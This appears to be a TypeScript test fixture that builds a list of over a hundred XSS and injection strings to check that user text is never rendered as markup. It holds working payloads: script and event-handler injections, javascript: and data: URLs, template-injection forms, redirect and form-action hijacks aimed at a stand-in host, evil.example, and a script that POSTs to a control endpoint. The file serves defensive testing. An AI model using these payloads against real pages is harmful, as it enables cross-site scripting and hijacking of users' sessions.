/** What would run if a text were anything but text. */
const PAYLOAD = `document.title='hacked';alert(1)`;

const TAGS = ['img', 'svg', 'video', 'audio', 'body', 'input', 'iframe', 'object', 'details', 'marquee', 'math', 'a'];
const EVENTS = ['onerror', 'onload', 'onfocus', 'ontoggle', 'onmouseover'];

/** Over a hundred texts that try to be more than text: markup, addresses, templates, escapes. None may change anything in a page. */
export const injections: readonly string[] = [
  ...TAGS.flatMap((tag) => EVENTS.map((event) => `<${tag} src=x open autofocus ${event}="${PAYLOAD}">`)),
  ...['', '"', "'", '-->', ']]>', '</title>', '</textarea>', '</style>', '</script>', '`'].map(
    (end) => `${end}<script>${PAYLOAD}</script>`,
  ),
  ...[
    'javascript:',
    'JaVaScRiPt:',
    ' java\tscript:',
    'data:text/html,',
    'vbscript:',
    'blob:',
    'file:///',
    '//evil.example/',
  ].map((scheme) => `<a href="${scheme}${PAYLOAD}">x</a>`),
  // biome-ignore lint/suspicious/noTemplateCurlyInString: a template of others
  ...['{{x}}', '${x}', '#{x}', '<%= x %>', '[[x]]', '@{x}', '{%x%}', '*{x}'].map((open) => open.replace('x', PAYLOAD)),
  ...['\u202e', '\u2066', '\ufeff', '\u0085', '\u2028', '\u0000', '\u001b[2J', '\u200f'].map(
    (sign) => `${sign}<b>${sign}`,
  ),
  '<link rel=stylesheet href=//evil.example/x.css>',
  '<style>*{display:none}</style>',
  '<meta http-equiv=refresh content=0;url=//evil.example>',
  '<base href=//evil.example/>',
  '<form action=//evil.example><button>x',
  '<template><img src=x onerror=alert(1)></template>',
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
  '<svg><use href="data:image/svg+xml,x#x"/></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  '__proto__',
  'constructor.prototype',
  `<x>${'<div>'.repeat(100)}`,
  '<script>fetch("/controls/start",{method:"POST"})</script>',
];
